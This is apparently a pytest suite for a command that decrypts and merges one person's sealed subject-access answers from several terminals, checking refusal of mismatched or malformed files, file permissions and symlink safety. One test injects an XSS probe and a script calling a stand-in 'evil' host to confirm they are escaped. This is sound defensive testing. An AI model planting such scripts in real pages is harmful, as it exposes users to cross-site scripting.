"""One person's answers from several terminals become one; what is not theirs is refused, and nothing is written."""

import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from nacl.public import PrivateKey, SealedBox

from edge.central.store.records import Store
from edge.cli import main
from edge.crypto.dsse import key_id
from edge.crypto.key_files import load_secret
from edge.domain.protocol.record import Origin
from edge.domain.protocol.record_kinds import Kind
from edge.terminal.subject_access.report import seal
from tests.support.ledger_gate import HOUR, Gate, since_boot
from tests.support.people import ANN, BOB


def answer(person: str, terminal: str) -> dict:
    return {
        "smartclocker-access": 1, "person": person, "site": "main", "terminal": terminal, "name": "<Ann>",
        "made": "2026-03-02T08:00:00.000Z", "restriction": None, "templates": [], "images": [], "consents": [],
        "records": [],
    }  # fmt: skip


@pytest.fixture
def key(tmp_path: Path) -> Path:
    assert main(["central", "rights", "key", str(tmp_path / "ann.key")]) == 0
    return tmp_path / "ann.key"


def sealed(key: Path, person: str, terminal: str) -> str:
    public = bytes(PrivateKey(load_secret(key)).public_key)
    path = key.parent / f"{person[0]}-{terminal}.sealed"
    path.write_bytes(seal(answer(person, terminal), public))
    return str(path)


def read(key: Path, into: Path, *files: str) -> int:
    into.mkdir()
    return main(["central", "rights", "read", *files, "--key", str(key), "--into", str(into), "--unverified"])


def test_answers_of_several_terminals_become_one(key: Path, tmp_path: Path) -> None:
    files = [sealed(key, ANN, name) for name in ("gate-1", "gate-2")]
    assert read(key, tmp_path / "out", *files) == 0
    data = json.loads((tmp_path / "out/data.json").read_text())
    assert data["person"] == ANN
    assert data["answers"] == [answer(ANN, "gate-1"), answer(ANN, "gate-2")]
    page = (tmp_path / "out/page.html").read_text()
    assert page.count("<h1>") == 2
    assert page.count("&lt;Ann&gt;") == 2
    assert page.count("<!doctype") == page.count("</html>") == 1
    assert "main/gate-1, main/gate-2" in page


@pytest.mark.parametrize("case", ["another person", "twice", "altered", "missing"])
def test_what_does_not_belong_together_is_refused_and_nothing_written(key, tmp_path, capsys, case) -> None:
    first = sealed(key, ANN, "gate-1")
    if case == "another person":
        second, cure = sealed(key, BOB, "gate-2"), "name one person's"
    elif case == "twice":
        second, cure = first, "name the newer"
    elif case == "altered":
        second, cure = sealed(key, ANN, "gate-2"), "fetch it again"
        raw = bytearray(Path(second).read_bytes())
        raw[-1] ^= 1
        Path(second).write_bytes(raw)
    else:
        second, cure = str(tmp_path / "nothing.sealed"), "name the answer"
    assert read(key, tmp_path / "out", first, second) == 65
    assert cure in capsys.readouterr().err
    assert list((tmp_path / "out").iterdir()) == []


def zipped(data: str, page: str = "x") -> bytearray:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("data.json", data)
        archive.writestr("page.html", page)
    return bytearray(packed.getvalue())


def odd(case: str) -> bytes:
    """Sealed by whoever knows the public half; no terminal makes such a file."""
    raw = zipped(json.dumps(answer(ANN, "gate-1")))
    central, local = raw.find(b"PK\x01\x02"), raw.find(b"PK\x03\x04")
    if case == "a compression that nobody knows":
        raw[central + 10] = raw[local + 8] = 99
    elif case == "encrypted":
        raw[central + 8] |= 1
        raw[local + 6] |= 1
    elif case == "not whole":
        del raw[60:90]
    return {
        "no zip": b"rubbish",
        "brackets without an end": bytes(zipped("[" * 200_000)),
        "a list": bytes(zipped("[]")),
        "fields of other types": bytes(zipped(json.dumps({**answer(ANN, "g"), "records": [7]}))),
        "no data": bytes(zipped("{}")),
        "half a letter": bytes(zipped(json.dumps({**answer(ANN, "g"), "name": "\ud800"}))),
        "half a letter beside the page": bytes(zipped(json.dumps({**answer(ANN, "g"), "more": "\ud800"}))),
    }.get(case, bytes(raw))


@pytest.mark.parametrize(
    "case",
    ["a compression that nobody knows", "encrypted", "not whole", "no zip", "brackets without an end", "a list",
     "fields of other types", "no data", "half a letter", "half a letter beside the page"],
)  # fmt: skip
def test_a_file_that_no_terminal_made_is_refused_in_one_line(key: Path, tmp_path: Path, capsys, case: str) -> None:
    public = PrivateKey(load_secret(key)).public_key
    (tmp_path / "odd.sealed").write_bytes(SealedBox(public).encrypt(odd(case)))
    assert read(key, tmp_path / "out", str(tmp_path / "odd.sealed")) == 65
    assert "no terminal's answer" in capsys.readouterr().err
    assert list((tmp_path / "out").iterdir()) == []


def test_the_page_is_made_from_the_data_and_nothing_that_came_with_it_is_shown(key: Path, tmp_path: Path) -> None:
    said = {**answer(ANN, "gate-1"), "name": "<script>alert(1)</script>"}
    page = "<html><style></style><script>fetch('http://evil/')</script></html>"
    public = PrivateKey(load_secret(key)).public_key
    (tmp_path / "a.sealed").write_bytes(SealedBox(public).encrypt(bytes(zipped(json.dumps(said), page))))
    assert read(key, tmp_path / "out", str(tmp_path / "a.sealed")) == 0
    shown = (tmp_path / "out/page.html").read_text()
    assert "<script" not in shown
    assert "&lt;script&gt;alert(1)" in shown


def test_what_is_written_is_its_owners_alone_and_overwrites_nothing(key: Path, tmp_path: Path) -> None:
    file, out, precious = sealed(key, ANN, "gate-1"), tmp_path / "out", tmp_path / "precious"
    assert read(key, out, file) == 0
    assert [path.stat().st_mode & 0o777 for path in out.iterdir()] == [0o600, 0o600]
    precious.write_text("precious")
    for name in ("data.json", "page.html"):
        into = tmp_path / name.partition(".")[0]
        into.mkdir()
        (into / name).symlink_to(precious)
        assert (
            main(["central", "rights", "read", file, "--key", str(key), "--into", str(into), "--unverified"]) == 65
        )
        assert [path.name for path in into.iterdir()] == [name]
    assert precious.read_text() == "precious"


def test_a_public_half_in_place_of_a_key_says_which_file_is_meant(key: Path, tmp_path: Path, capsys) -> None:
    assert main(["central", "evidence", "key", str(tmp_path / "evidence")]) == 0
    capsys.readouterr()
    words = ["evidence", "open", str(tmp_path), str(tmp_path), "--key", str(tmp_path / "evidence.pem")]
    (tmp_path / "evidence.pem").chmod(0o600)
    assert main(["central", *words, "--into", str(tmp_path), "--why", "w"]) == 78
    said = capsys.readouterr().err
    assert "not its .pem" in said
    assert "people" not in said


@pytest.mark.parametrize("since", [None, "2020-01-01T00:00:00.000Z"], ids=["believed", "unproven"])
def test_an_answer_that_only_an_unproven_identity_vouches_for_is_none(key: Path, tmp_path: Path, since) -> None:
    with Store(tmp_path / "ledger.db") as store:
        gate = Gate(store, Origin("main", "gate-1"), 1)
        file = Path(sealed(key, ANN, "gate-1"))
        sha256 = hashlib.sha256(file.read_bytes()).hexdigest()
        detail = f"sealed in access/{ANN}-{'0' * 32}.sealed, sha256 {sha256}"
        said = {"command_id": "0" * 32, "command": "access", "outcome": "done", "detail": detail}
        gate.write(Kind.COMMAND_RESULT, said, since_boot(HOUR))
        if since is not None:
            store.revoke(key_id(gate.key.verify_key), since)
    into = tmp_path / "out"
    into.mkdir()
    words = ["--key", str(key), "--into", str(into), "--ledger", str(tmp_path)]
    assert main(["central", "rights", "read", str(file), *words]) == (0 if since is None else 65)
    assert len(list(into.iterdir())) == (2 if since is None else 0)
